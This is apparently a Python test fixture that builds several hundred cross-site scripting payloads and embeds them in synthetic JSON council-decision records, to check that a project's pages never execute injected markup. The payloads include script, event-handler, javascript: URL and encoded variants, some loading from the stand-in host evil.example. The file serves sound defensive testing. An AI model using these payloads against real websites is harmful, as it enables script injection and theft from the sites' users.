# tests/reliability/script_payloads.py - markup that would run if it ever became a page's own.
# SPDX-License-Identifier: GPL-3.0-or-later
import json

# Each calls xss(), which tests/reliability/scripts.mjs watches; ways out of a text first.
ESCAPES = ["", '">', "'>", "</title>", "</textarea>", "</script>", "-->", "</p></div>",
           "]]>", "{{/x}}", '" ', "' ", "`>", "</mark></a>", "</style>", "</summary>"]
ELEMENTS = [
    "<script>xss({n})</script>",
    "<ScRiPt >xss({n})</sCrIpT>",
    "<script src=//evil.example/{n}.js></script>",
    "<script/x>xss({n})</script>",
    "<<script>xss({n})//<</script>",
    "<img src=x onerror=xss({n})>",
    "<img/src=x/onerror=xss({n})>",
    "<img src=x onerror='xss({n})'//",
    "<svg onload=xss({n})>",
    "<svg><script>xss({n})</script></svg>",
    "<svg><animate onbegin=xss({n}) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:xss({n})><text>x</text></a></svg>",
    "<body onload=xss({n})>",
    "<iframe src=javascript:xss({n})></iframe>",
    "<iframe srcdoc='<script>parent.xss({n})</script>'></iframe>",
    "<object data=javascript:xss({n})></object>",
    "<embed src=javascript:xss({n})>",
    "<a href=javascript:xss({n})>a</a>",
    "<a href=' java\tscript:xss({n})'>a</a>",
    "<a href=data:text/html,<script>xss({n})</script>>a</a>",
    "<form action=javascript:xss({n})><button>b</button></form>",
    "<button formaction=javascript:xss({n}) form=search>b</button>",
    "<input autofocus onfocus=xss({n})>",
    "<details open ontoggle=xss({n})>",
    "<video><source onerror=xss({n})></video>",
    "<audio src=x onerror=xss({n})>",
    "<marquee onstart=xss({n})>m</marquee>",
    "<meta http-equiv=refresh content='0;url=javascript:xss({n})'>",
    "<link rel=stylesheet href=//evil.example/{n}.css>",
    "<base href=//evil.example/{n}/>",
    "<style>*{{background:url(//evil.example/{n})}}</style>",
    "<p style=background:url(//evil.example/{n})>p</p>",
    "<math><mtext><table><mglyph><style><img src=x onerror=xss({n})>",
    "<noscript><p title=\"</noscript><img src=x onerror=xss({n})>\">",
    "<template><script>xss({n})</script></template>",
    "<x onclick=xss({n}) tabindex=1 id=x>x</x>",
    "<textarea autofocus onfocus=xss({n})>",
    "<select onfocus=xss({n}) autofocus>",
    "<isindex type=image src=1 onerror=xss({n})>",
    "<portal src=javascript:xss({n})></portal>",
]
# Without an element of their own: attributes, addresses, templates, entities, other encodings.
OTHERS = [
    '" onmouseover="xss({n})" x="',
    "' onfocus='xss({n})' autofocus='",
    "javascript:xss({n})",
    "JaVaScRiPt:xss({n})//",
    "\tjavascript:xss({n})",
    "data:text/html,<script>xss({n})</script>",
    "vbscript:xss({n})",
    "//evil.example/{n}",
    "&lt;script&gt;xss({n})&lt;/script&gt;",
    "&#60;script&#62;xss({n})&#60;/script&#62;",
    "\\u003cscript\\u003exss({n})\\u003c/script\\u003e",
    "%3Cscript%3Exss({n})%3C/script%3E",
    "＜script＞xss({n})＜/script＞",
    "+ADw-script+AD4-xss({n})+ADw-/script+AD4-",
    "{{{{constructor.constructor('xss({n})')()}}}}",
    "{{{{{{&x}}}}}}{{{{>top}}}}<b>xss({n})",
    "${{xss({n})}}`-xss({n})-`",
    "';xss({n});//",
    "\";xss({n});//",
    "</script><script>xss({n})</script>",
    "<!--<script>xss({n})//-->",
    "\u2028xss({n})\u2029",
    "a\u202e<script>xss({n})</script>",
    "\ufeff<script>xss({n})</script>",
]


def payloads():
    """240 or so, each with a number of its own."""
    made = []
    for at, element in enumerate(ELEMENTS):
        for escape in range(5):
            made.append(ESCAPES[(at * 3 + escape * 5) % len(ESCAPES)] + element)
    return [text.format(n=n) for n, text in enumerate(made + OTHERS * 2)]


def decision(number, texts):
    """In the project's own form, a payload wherever a text may stand; `texts` has at least 20."""
    name = f"Council {number} {texts[0]}"
    fields = {
        "url": ["javascript:xss(9001)", "data:text/html,<script>xss(9002)</script>",
                texts[1]][number % 3],
        "body": {"name": name, "slug": texts[2], "kind": texts[3], "region": texts[4]},
        "category": texts[5], "subcategory": texts[6], "summary": " ".join(texts[7:10]),
        "outcome": ["Upheld", texts[10]][number % 2]}
    kinds = ["paragraph", "item", "quote", "heading", "table"]
    blocks = [{"kind": kinds[at % 5], "anchor": f'b{at}" onfocus="xss({at})', "text": text,
               "number": at + 1 if at % 5 == 0 else 0, "numbering": "published",
               "marker": text[:40], "depth": at % 3} for at, text in enumerate(texts[11:])]
    remedy = (f"The Council has agreed to pay Mr {texts[11]} £{100 + number} for distress, as "
              f"{texts[12]} said in paragraph 1, under the {texts[13]} Act 1996.")
    return json.dumps({
        "format": 1, "reference": f"98 911 {number:03}", "date": "2024-12-09", **fields,
        "sections": [
            {"heading": texts[11], "kind": "findings", "level": 1, "blocks": blocks},
            {"heading": "Agreed action", "kind": "remedy", "level": 2,
             "blocks": [{"kind": "paragraph", "text": remedy}]}]})


def decisions(each):
    """JSON lines that hold every payload, so many a decision."""
    everything = payloads()
    groups = [everything[at:at + each] for at in range(0, len(everything), each)]
    if len(groups[-1]) < 20:
        groups[-2] += groups.pop()
    return [decision(number, texts) for number, texts in enumerate(groups)]
